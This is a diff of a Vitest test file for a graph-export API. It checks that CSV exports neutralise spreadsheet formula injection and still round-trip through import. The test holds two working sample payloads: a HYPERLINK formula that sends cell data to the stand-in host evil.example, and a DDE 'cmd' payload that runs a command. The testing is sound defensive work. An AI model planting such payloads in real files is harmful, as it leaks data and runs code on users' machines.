@@ -1,6 +1,9 @@
+import { parse } from 'csv-parse/sync';
+import type { FastifyInstance } from 'fastify';
 import { describe, expect, it } from 'vitest';
-import { graphToGraphMl, graphToNodesCsv, graphToRelationshipsCsv } from '../../../server/exporters/graph-export.js';
-import { embeddedHarnessPerTest, expectRoundTrip } from '../app-harness.js';
+import { encodeListCell, graphToGraphMl, graphToNodesCsv, graphToRelationshipsCsv } from '../../../server/exporters/graph-export.js';
+import { embeddedHarness, embeddedHarnessPerTest, expectRoundTrip } from '../app-harness.js';
+import { multipartBody } from '../multipart-body.js';
 
 const h = embeddedHarnessPerTest();
 
@@ -62,12 +65,11 @@ describe('GET /api/v1/export', () => {
     expect(badFormat.json().errors.map((e: { path: string }) => e.path)).toEqual(['query.format']);
   });
 
-  it('422 for GraphML when an id names nodes of two labels (JSON still exports)', async () => {
-    await h.store.upsertNodes([{ label: 'Company', id: 'CD', name: 'CD Trading', country: 'JP' }]);
-    const res = await h.app.inject({ method: 'GET', url: '/api/v1/export?format=graphml' });
-    expect(res.statusCode).toBe(422);
-    expect(res.json().errors).toEqual([{ path: 'nodes.CD', message: 'id "CD" names both a Company and a Country; GraphML needs ids unique across labels' }]);
-    expect((await h.app.inject({ method: 'GET', url: '/api/v1/export' })).statusCode).toBe(200);
+  it('GraphML for every graph the store can hold: an id cannot name nodes of two labels (the 422 of graphMlChunks stays a guard)', async () => {
+    // Since ids are unique across labels (a 409 on the write), the export's check cannot fire over HTTP.
+    const put = await h.app.inject({ method: 'PUT', url: '/api/v1/companies/CD', payload: { name: 'CD Trading', country: 'JP' } });
+    expect(put.statusCode).toBe(409);
+    expect((await h.app.inject({ method: 'GET', url: '/api/v1/export?format=graphml' })).statusCode).toBe(200);
   });
 
   it('is documented in OpenAPI with its three media types', async () => {
@@ -77,5 +79,45 @@ describe('GET /api/v1/export', () => {
     expect(Object.keys(op.responses['200'].content)).toEqual(['application/json', 'text/csv', 'application/graphml+xml']);
     expect(op.responses['200'].content['application/json'].schema).toEqual({ $ref: '#/components/schemas/GraphExport' });
     expect(doc.components.schemas.GraphExport.required).toEqual(expect.arrayContaining(['version', 'exportedAt']));
+  });
+});
+
+describe('GET /api/v1/export?format=csv with text a spreadsheet would run', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  const CMD = "+cmd|' /C calc'!A0";
+  /** Data cells of a CSV answer, as a spreadsheet reads them. */
+  const cells = (body: string) => (parse(body) as string[][]).slice(1).flat();
+  const exportCsv = async (app: FastifyInstance) => ({
+    nodes: (await app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=nodes' })).body,
+    relationships: (await app.inject({ method: 'GET', url: '/api/v1/export?format=csv&part=relationships' })).body,
+  });
+
+  it('starts no cell with = + - @ tab or CR, and imports back into an empty store as the same graph, byte for byte', async () => {
+    const put = await h.app.inject({ method: 'PUT', url: '/api/v1/companies/@evil', payload: { name: HYPERLINK, country: 'JP', tags: [CMD, "'=quoted", 'plain'] } });
+    expect(put.statusCode).toBe(201);
+    const supply = await h.app.inject({ method: 'PUT', url: '/api/v1/supplies', payload: { from: 't1a', to: '@evil', metal: 'tin', share: 0.5, source: '-cmrt.xlsx' } });
+    expect(supply.statusCode).toBeLessThan(300);
+
+    const exported = await exportCsv(h.app);
+    const all = [...cells(exported.nodes), ...cells(exported.relationships)];
+    expect(all).toContain(`'${HYPERLINK}`);
+    expect(all).toContain(`'${encodeListCell([CMD, "'=quoted", 'plain'])}`);
+    expect(all).toContain("'-cmrt.xlsx");
+    for (const cell of all) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const empty = await embeddedHarness({ withFixture: false });
+    try {
+      const res = await empty.app.inject({ method: 'POST', url: '/api/v1/imports/graph', ...(await multipartBody([['nodes', exported.nodes], ['relationships', exported.relationships]])) });
+      expect(res.statusCode).toBe(200);
+      expect(res.json()).toMatchObject({ nodesUpserted: 12, relationshipsUpserted: 14 });
+      expect(await empty.store.getNode('Company', '@evil')).toEqual({ label: 'Company', id: '@evil', name: HYPERLINK, country: 'JP', tags: [CMD, "'=quoted", 'plain'] });
+      const again = await exportCsv(empty.app);
+      expect(again.nodes).toBe(exported.nodes);
+      // The import stamps relationships with its own time: the rest of every row is the same.
+      const withoutUpdatedAt = (body: string) => body.replace(/,[^,\r\n]*\r\n/g, '\r\n');
+      expect(withoutUpdatedAt(again.relationships)).toBe(withoutUpdatedAt(exported.relationships));
+    } finally {
+      await empty.close();
+    }
   });
 });
